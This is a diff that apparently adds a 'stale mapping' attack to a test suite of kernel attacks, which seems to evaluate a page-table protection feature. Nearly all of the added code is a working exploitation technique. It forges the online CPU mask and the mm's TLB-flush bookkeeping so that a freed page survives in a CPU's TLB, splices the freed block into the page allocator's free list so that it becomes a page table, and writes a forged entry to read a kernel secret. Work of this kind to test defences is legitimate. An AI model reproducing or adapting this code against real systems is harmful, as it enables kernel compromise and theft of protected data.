@@ -420,6 +420,177 @@ static int freed_while_mapped(void)
 	return DONE;
 }
 
+/*
+ * Memory that a CPU has in its TLB only
+ */
+
+#define NR_STALE	128	/* pages, of as many blocks as possible */
+#define STALE_STEP	128	/* pages from one to the next */
+
+struct stale {
+	char *memory;		/* of the process that frees it */
+	u64 *frames;
+	char *tables;
+	u64 block;		/* of the page allocator: the first frame of one that is free */
+};
+
+/* words[]: what the process on CPU 0 writes, and where */
+#define STALE_ADDR	(shared->words[1])
+#define STALE_VALUE	(shared->words[2])
+#define STALE_STATE	((volatile u64 *)&shared->words[3])
+enum { TOUCHING, TOUCHED, FREED, WRITING, WRITTEN, ENDING };
+
+static char *stale_page(const struct stale *s, unsigned int i)
+{
+	return s->memory + i * STALE_STEP * PAGE_SIZE;
+}
+
+/* On CPU 0, which nobody asks to flush its TLB. */
+static int keep_in_tlb(void *arg)
+{
+	struct stale *s = arg;
+	unsigned int i;
+
+	run_on_cpu(0);
+	poll(NULL, 0, 1);
+	for (i = 0; i < NR_STALE; i++)
+		*(volatile u64 *)stale_page(s, i) = 1;
+	*STALE_STATE = TOUCHED;
+	while (*STALE_STATE != WRITING && *STALE_STATE != ENDING)
+		;
+	if (*STALE_STATE == WRITING) {
+		*(volatile u64 *)STALE_ADDR = STALE_VALUE;
+		*STALE_STATE = WRITTEN;
+	}
+	while (*STALE_STATE != ENDING)
+		;
+	return 0;
+}
+
+/* A process of its own: its page tables are correct, and its CPUs are forged. */
+static void free_unnoticed(struct stale *s, size_t size)
+{
+	struct kpkeys_attack_leak l = {};
+	u64 cpus, gen, old;
+	pid_t pid;
+
+	get_leak(&l, NULL);
+	cpus = l.mm + lookup("mm_struct.flexible_array");
+	gen = l.mm + lookup("mm_struct.context.tlb_gen");
+	madvise(s->memory, size, MADV_NOHUGEPAGE);
+	memset(s->memory, 1, size);
+	memcpy(s->frames, frames_of(s->memory, NR_STALE * STALE_STEP),
+	       NR_STALE * STALE_STEP * sizeof(*s->frames));
+	pid = start(keep_in_tlb, s);
+	wait_for(STALE_STATE, TOUCHED);
+
+	kernel_write(cpus, kernel_read(cpus) & ~1ULL);
+	old = kernel_read(gen);
+	munmap(s->memory, size);
+	/* So that CPU 0 keeps what it has even if the kernel looks. */
+	kernel_write(gen, old);
+	*STALE_STATE = FREED;
+	waitpid(pid, NULL, 0);
+	_exit(0);
+}
+
+/* In the page allocator, a block of two chunks at most. The pool is to take it next. */
+static bool move_to_front(struct stale *s)
+{
+	u64 nr = (2UL << 20) / PAGE_SIZE, order, page, prev, next;
+	unsigned int i, j;
+
+	for (i = 0; i < NR_STALE; i++) {
+		for (j = 0; j < 2; j++) {
+			order = __builtin_ctzl(nr) + j;
+			s->block = s->frames[i * STALE_STEP] & ~((nr << j) - 1);
+			page = leak.memmap + s->block * lookup("sizeof page");
+			/* Words of 8 bytes: the type is the upper half of one. */
+			if ((kernel_read(page + (lookup("page.page_type") & ~7ULL)) >>
+			     (lookup("page.page_type") & 4) * 8 & 0xff000000) != 0xf0000000 ||
+			    kernel_read(page + lookup("page.private")) != order)
+				continue;
+			next = kernel_read(page + lookup("page.lru"));
+			prev = kernel_read(page + lookup("page.lru") + 8);
+			kernel_write(next + 8, prev);
+			kernel_write(prev, next);
+			insert(page + lookup("page.lru"), zone() + lookup("zone.free_area") +
+			       order * lookup("sizeof free_area"));
+			return true;
+		}
+	}
+	return false;
+}
+
+static int use_stale_table(void *arg)
+{
+	struct stale *s = arg;
+	unsigned int last = (1U << entry_bits()) - 1, i, j;
+
+	for (j = 0; j < MAX_TABLES; j++) {
+		char *range = s->tables + j * PMD_SIZE;
+		u64 entry;
+
+		/* Memory that is read, and never written, takes page tables only. */
+		(void)*(volatile char *)range;
+		entry = kernel_address(kernel_read(entry_slot(leak.pgd, range, 2)));
+		for (i = 0; i < NR_STALE; i++) {
+			if (leak.linear_offset + s->frames[i * STALE_STEP] * PAGE_SIZE != entry)
+				continue;
+			STALE_ADDR = (uintptr_t)stale_page(s, i) + last * 8;
+			STALE_VALUE = leaf(leak.secret);
+			*STALE_STATE = WRITING;
+			wait_for(STALE_STATE, WRITTEN);
+			steal_from(range + last * PAGE_SIZE);
+			return 0;
+		}
+	}
+	return 0;
+}
+
+/*
+ * A page is unmapped and freed, but a CPU keeps it in its TLB, because the lists of CPUs say
+ * that it has nothing to flush, or is offline. The page becomes a page table.
+ */
+static int stale_mapping(void)
+{
+	size_t size = NR_STALE * STALE_STEP * PAGE_SIZE;
+	u64 online = lookup("__cpu_online_mask");
+	struct stale s;
+	pid_t pid;
+
+	if (!on_arch("x86_64"))
+		return not_possible("no CPU is asked to flush its TLB");
+	if (!protected)
+		return steal_by_write(own_page_slot());
+
+	run_on_cpu(1);
+	s.memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	s.frames = mmap(NULL, NR_STALE * STALE_STEP * sizeof(*s.frames), PROT_READ | PROT_WRITE,
+			MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	s.tables = mmap(NULL, (MAX_TABLES + 1) * PMD_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE |
+			MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+	if (s.memory == MAP_FAILED || s.frames == MAP_FAILED || s.tables == MAP_FAILED)
+		die("cannot map memory");
+	s.tables = (char *)(((uintptr_t)s.tables + PMD_SIZE - 1) & ~(PMD_SIZE - 1));
+	madvise(s.tables, MAX_TABLES * PMD_SIZE, MADV_DONTFORK);
+	madvise(s.tables, MAX_TABLES * PMD_SIZE, MADV_NOHUGEPAGE);
+
+	pid = fork();
+	if (!pid)
+		free_unnoticed(&s, size);
+	while (*STALE_STATE == TOUCHING)
+		usleep(1000);
+	kernel_write(online, kernel_read(online) & ~1ULL);
+	wait_for(STALE_STATE, FREED);
+	if (move_to_front(&s))
+		ended_well(start(use_stale_table, &s));
+	restore(online, kernel_read(online) | 1);
+	*STALE_STATE = ENDING;
+	waitpid(pid, NULL, 0);
+	return stay(DONE);
+}
+
 /* A live page table is in the list of those that lose their pkey. */
 static int untagged(void)
 {
@@ -717,6 +888,8 @@ const struct attack pool[] = {
 	  ordinary_page },
 	{ "free-list", "the page allocator's list of free blocks: user memory",
 	  freed_while_mapped },
+	{ "cpu-list", "the CPUs that are online, or use an mm: one has a freed page in its TLB",
+	  stale_mapping },
 	{ "pool-entry-mask", "the mask of the bits that an entry can have", entry_mask },
 	{ }
 };
